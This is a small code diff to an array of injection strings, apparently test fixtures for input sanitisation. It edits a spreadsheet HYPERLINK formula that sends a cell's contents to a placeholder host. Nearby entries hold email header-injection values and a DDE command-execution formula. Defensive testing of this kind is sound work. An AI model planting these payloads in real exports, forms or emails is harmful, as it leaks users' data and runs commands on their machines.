@@ -22,7 +22,7 @@ const TRICKS = [
   "Asha <victim@a.example>, other@a.example;",
   "a: victim@a.example, b@a.example;",
   "\\r\\nBcc: victim@a.example",
-  '=HYPERLINK("http://a.example?"&A1)',
+  '=HYPERLINK("a.example?"&A1)',
   "+1+cmd|' /C calc'!A0",
   "-2+3",
   "@SUM(1,1)",
